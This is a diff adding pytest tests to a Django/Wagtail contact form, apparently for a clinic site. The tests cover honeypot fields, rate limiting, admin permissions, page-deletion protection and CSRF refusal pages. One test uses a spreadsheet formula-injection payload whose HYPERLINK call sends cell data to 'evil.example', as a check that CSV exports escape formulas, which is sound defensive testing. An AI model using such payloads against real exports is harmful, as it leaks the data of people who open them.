@@ -640,3 +640,125 @@ def test_setting_email_host_selects_smtp_in_every_settings_module(module):
     assert result.stdout.strip().splitlines()[-1] == (
         "django.core.mail.backends.smtp.EmailBackend 127.0.0.1 2525"
     ), result.stderr
+
+
+# --- found in review (2026-11-28) -------------------------------------------------------------
+
+
+def test_a_mistake_with_the_honeypot_filled_is_shown_never_thanked(client, contact_page):
+    # A password manager may fill the hidden field: the person must see their mistake.
+    response = client.post(
+        contact_page.url, valid(website="autofilled", phone_number="12", full_name="Typed")
+    )
+
+    assert response.status_code == 200
+    html = BeautifulSoup(response.content, "html.parser")
+    assert html.find("input", attrs={"name": "full_name"})["value"] == "Typed"
+    assert html.find("input", attrs={"name": "phone_number"})["aria-invalid"] == "true"
+    assert not Enquiry.objects.exists()
+
+
+def test_mistakes_do_not_count_towards_the_rate_limit(client, contact_page):
+    for _ in range(8):
+        assert client.post(contact_page.url, valid(phone_number="12")).status_code == 200
+
+    assert client.post(contact_page.url, valid()).status_code == 302
+    assert Enquiry.objects.count() == 1
+
+
+def test_the_rate_limit_never_keeps_a_reversible_hash_of_the_address(client, contact_page):
+    import hashlib
+
+    from tests.helpers import cache_keys
+
+    client.post(contact_page.url, valid(), REMOTE_ADDR="203.0.113.9")
+
+    keys = [key for key in cache_keys() if "contact-rate" in key]
+    assert keys
+    plain = hashlib.sha256(b"203.0.113.9").hexdigest()[:32]
+    assert not any(plain in key for key in keys)
+
+
+@pytest.mark.parametrize(
+    "export_url", ["/admin/enquiries/?export=csv", "/admin/forms/submissions/{pk}/?export=csv"]
+)
+def test_a_csv_export_opens_typed_formulas_as_text(client, admin_client, contact_page, export_url):
+    formula = '=HYPERLINK("http://evil.example/?"&A2,"Open")'
+    client.post(
+        contact_page.url, valid(full_name=formula, how_can_we_help="@SUM(1+1)", utm_source="=1+2")
+    )
+    assert Enquiry.objects.get().form_data["full_name"] == formula  # stored as typed
+
+    export = admin_client.get(export_url.format(pk=contact_page.pk))
+    assert export.status_code == 200
+    rows = list(csv.reader(io.StringIO(b"".join(export.streaming_content).decode())))
+    cells = [cell for row in rows[1:] for cell in row]
+    assert not any(cell.startswith(("=", "+", "-", "@")) for cell in cells), cells
+    assert any(cell == "'" + formula or ("'" + formula) in cell for cell in cells)
+
+
+def test_only_staff_who_may_delete_enquiries_get_wagtails_per_form_views(
+    client, contact_page, front_desk
+):
+    from django.contrib.auth.models import Group
+
+    # An editor who also works the front desk: may see enquiries, edit pages, not delete.
+    front_desk.groups.add(Group.objects.get(name="Editors"))
+    client.post(contact_page.url, valid())
+    enquiry = Enquiry.objects.get()
+    client.force_login(front_desk)
+
+    delete = client.post(
+        f"/admin/forms/submissions/{contact_page.pk}/delete/?selected-submissions={enquiry.pk}"
+    )
+
+    assert delete.status_code in {302, 403}
+    assert Enquiry.objects.filter(pk=enquiry.pk).exists()
+    assert client.get("/admin/enquiries/").status_code == 200  # where the front desk reads
+
+
+def test_a_contact_page_holding_enquiries_cannot_be_deleted(client, admin_client, contact_page):
+    from django.db.models import ProtectedError
+
+    client.post(contact_page.url, valid())
+
+    confirm = admin_client.get(f"/admin/pages/{contact_page.pk}/delete/", follow=True)
+    assert "cannot be deleted" in confirm.content.decode()
+    admin_client.post(f"/admin/pages/{contact_page.pk}/delete/")
+    bulk = admin_client.post(
+        f"/admin/bulk/wagtailcore/page/delete/?id={contact_page.pk}&next=/admin/pages/",
+        follow=True,
+    )
+    assert "cannot be deleted" in bulk.content.decode()
+
+    assert ContactPage.objects.filter(pk=contact_page.pk).exists()
+    assert Enquiry.objects.count() == 1
+    with pytest.raises(ProtectedError):  # the backstop, whatever deletes it
+        contact_page.delete()
+
+
+def test_a_contact_page_without_enquiries_can_still_be_deleted(admin_client, contact_page):
+    admin_client.post(f"/admin/pages/{contact_page.pk}/delete/")
+    assert not ContactPage.objects.filter(pk=contact_page.pk).exists()
+
+
+@pytest.mark.django_db
+def test_a_refused_form_gets_a_plain_page_with_the_phone_number(contact_page):
+    from django.test import Client
+
+    from wagtail.models import Site
+
+    from home.models import ClinicSettings
+
+    clinic = ClinicSettings.for_site(Site.objects.get(is_default_site=True))
+    clinic.phone = "+971 6 555 0100"
+    clinic.save()
+
+    response = Client(enforce_csrf_checks=True).post(contact_page.url, valid())
+
+    assert response.status_code == 403
+    html = BeautifulSoup(response.content, "html.parser")
+    assert html.h1.get_text() == "Sorry, your form was not sent"
+    assert html.find("a", href="tel:+97165550100") is not None
+    assert "CSRF" not in response.content.decode()
+    assert not Enquiry.objects.exists()
